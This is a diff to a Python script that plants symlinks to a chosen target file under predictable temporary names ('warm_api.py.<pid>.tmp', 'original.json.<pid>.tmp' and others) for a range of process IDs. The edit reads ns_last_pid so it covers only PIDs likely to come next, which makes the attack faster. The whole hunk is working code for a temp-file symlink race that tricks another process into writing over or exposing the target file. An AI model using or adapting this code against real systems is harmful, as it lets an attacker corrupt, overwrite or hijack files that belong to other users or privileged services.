@@ -182,9 +182,13 @@ import os, sys
 target, fast = sys.argv[1], sys.argv[2]
 with open("/proc/sys/kernel/pid_max") as handle:
     pid_max = int(handle.read())
+with open("/proc/sys/kernel/ns_last_pid") as handle:
+    last = int(handle.read())
+# every PID where they wrap soon (32768 here); else the next 20000 (a container: 4194304)
+top = pid_max if pid_max <= 1 << 16 else min(pid_max, last + 20000)
 planted = 0
 try:
-    for pid in range(1, pid_max + 1):
+    for pid in range(1, top + 1):
         for name in ("warm_api.py", "original", "original.json"):
             os.symlink(target, "%s/%s.%d.tmp" % (fast, name, pid))
             planted += 1
